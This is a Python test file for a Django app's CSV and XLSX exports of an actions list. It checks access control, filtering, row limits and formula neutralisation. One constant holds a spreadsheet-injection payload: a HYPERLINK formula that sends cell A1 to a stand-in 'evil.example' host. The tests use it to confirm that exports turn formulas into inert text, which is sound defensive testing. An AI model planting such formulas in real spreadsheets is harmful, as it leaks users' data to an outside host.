"""CSV and XLSX downloads of the actions list: the filtered, visible rows, formulas defused;
above a size, a report from the worker instead."""

import csv
import datetime
import io

import openpyxl
from django.urls import reverse

from declarations.models import Paragraph
from tracking.models import Report

from .filings import file_action

CSV = reverse("tracking:actions_csv")
XLSX = reverse("tracking:actions_xlsx")
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _csv(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def _xlsx(response) -> list[tuple]:
    assert "attachment" in response["Content-Disposition"]
    body = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    return list(sheet.iter_rows(values_only=True))


def test_anonymous_visitors_cannot_download(client, db):
    assert client.get(CSV).status_code == 302
    assert client.get(XLSX).status_code == 302


def test_the_csv_holds_the_filtered_rows_with_iso_dates(client, cycle, tajikistan, tjk_focal):
    file_action(
        tajikistan,
        cycle,
        tjk_focal,
        title="School programme",
        numbers=(12, 13),
        status="ongoing",
        start_date="2026-02-01",
    )
    file_action(tajikistan, cycle, tjk_focal, title="Border training")
    client.force_login(tjk_focal)

    rows = _csv(client.get(CSV, {"status": "ongoing"}))

    assert rows[0][:5] == ["ID", "Participant code", "Participant", "Cycle", "Title"]
    assert len(rows) == 2
    assert rows[1][1:5] == ["TJK", "Tajikistan", "2026", "School programme"]
    assert "OP12, OP13" in rows[1]
    assert "Ongoing" in rows[1]
    assert "2026-02-01" in rows[1]


def test_the_list_links_to_the_downloads_with_its_filters(client, cycle, tjk_focal):
    client.force_login(tjk_focal)

    page = client.get(reverse("tracking:actions"), {"status": "ongoing", "q": "border"}).text

    assert f'href="{CSV}?status=ongoing&amp;q=border"' in page
    assert f'href="{XLSX}?status=ongoing&amp;q=border"' in page


def test_the_csv_neutralises_formulas(client, cycle, tajikistan, tjk_focal):
    file_action(tajikistan, cycle, tjk_focal, title=FORMULA, lead_institution="+44 ministry")
    client.force_login(tjk_focal)

    row = _csv(client.get(CSV))[1]

    assert row[4] == "'" + FORMULA
    assert row[5] == "'+44 ministry"


def test_the_xlsx_neutralises_formulas_and_keeps_numbers(client, cycle, tajikistan, tjk_focal):
    file_action(tajikistan, cycle, tjk_focal, title=FORMULA, progress=40, start_date="2026-02-01")
    client.force_login(tjk_focal)

    header, row = _xlsx(client.get(XLSX))

    assert header[4] == "Title"
    assert row[4] == "'" + FORMULA  # text, not a formula
    assert row[9] == 40
    assert row[10] == datetime.datetime(2026, 2, 1)  # a date cell, not text


def test_another_country_downloads_nothing_of_tajikistans_drafts(
    client, cycle, tajikistan, kazakhstan, tjk_focal, kaz_focal
):
    file_action(tajikistan, cycle, tjk_focal, title="Tajik draft plan")
    file_action(kazakhstan, cycle, kaz_focal, title="Kazakh law reform")
    client.force_login(kaz_focal)

    asking_for_tajikistan = client.get(CSV, {"participant": tajikistan.pk})
    all_csv = _csv(client.get(CSV))
    xlsx_rows = _xlsx(client.get(XLSX))

    # Tajikistan is no choice of the filter for Kazakhstan: refused, not ignored.
    assert asking_for_tajikistan.status_code == 400
    assert b"Tajik" not in asking_for_tajikistan.content
    assert [row[4] for row in all_csv[1:]] == ["Kazakh law reform"]
    assert [row[4] for row in xlsx_rows[1:]] == ["Kazakh law reform"]


def test_the_secretariat_downloads_submitted_rows_but_never_drafts(
    client, cycle, tajikistan, kazakhstan, tjk_focal, kaz_focal, secretariat
):
    file_action(tajikistan, cycle, tjk_focal, title="Tajik draft plan")
    file_action(kazakhstan, cycle, kaz_focal, title="Kazakh law reform", state="approved")
    client.force_login(secretariat)

    assert [row[4] for row in _csv(client.get(CSV))[1:]] == ["Kazakh law reform"]
    assert [row[4] for row in _xlsx(client.get(XLSX))[1:]] == ["Kazakh law reform"]


def test_a_download_at_the_limit_is_written_at_once(client, settings, cycle, tajikistan, tjk_focal):
    settings.ACTIONS_EXPORT_MAX_ROWS = 2
    for title in ("Plan one", "Plan two"):
        file_action(tajikistan, cycle, tjk_focal, title=title)
    client.force_login(tjk_focal)

    assert len(_csv(client.get(CSV))) == 3
    assert len(_xlsx(client.get(XLSX))) == 3


def test_a_bigger_download_opens_the_report_form_on_the_lists_choices(
    client, settings, cycle, tajikistan, tjk_focal
):
    settings.ACTIONS_EXPORT_MAX_ROWS = 2
    for title in ("Plan one", "Plan two", "Plan three"):
        file_action(tajikistan, cycle, tjk_focal, title=title, numbers=(4,))
    paragraph = Paragraph.objects.get(declaration=cycle.declaration, number=4)
    client.force_login(tjk_focal)
    filters = {"q": "plan", "cycle": cycle.pk, "participant": tajikistan.pk}

    response = client.get(CSV, filters | {"paragraph": paragraph.pk}, follow=True)

    assert response.redirect_chain[-1][0].startswith(reverse("tracking:report_request"))
    page = response.content.decode()
    assert "More than 2 actions match: too many to download at once." in page
    assert "A report cannot filter by search words:" in page
    for field, value in [("declaration", cycle.declaration_id), ("cycle", cycle.pk),
                         ("participants", tajikistan.pk), ("paragraphs", paragraph.pk),
                         ("format", "csv"), ("table", "actions")]:  # fmt: skip
        select = page.split(f'name="{field}"')[1].split("</select>")[0]
        assert f'<option value="{value}" selected>' in select, field
    assert not Report.objects.exists()  # nothing is requested until the user sends the form


def test_a_bigger_xlsx_download_opens_the_report_form_for_a_workbook(
    client, settings, cycle, tajikistan, tjk_focal
):
    settings.ACTIONS_EXPORT_MAX_ROWS = 1
    for title in ("Plan one", "Plan two"):
        file_action(tajikistan, cycle, tjk_focal, title=title)
    client.force_login(tjk_focal)

    response = client.get(XLSX, follow=True)

    page = response.content.decode()
    assert "More than 1 actions match" in page and "A report cannot filter" not in page
    select = page.split('name="format"')[1].split("</select>")[0]
    assert '<option value="xlsx" selected>' in select
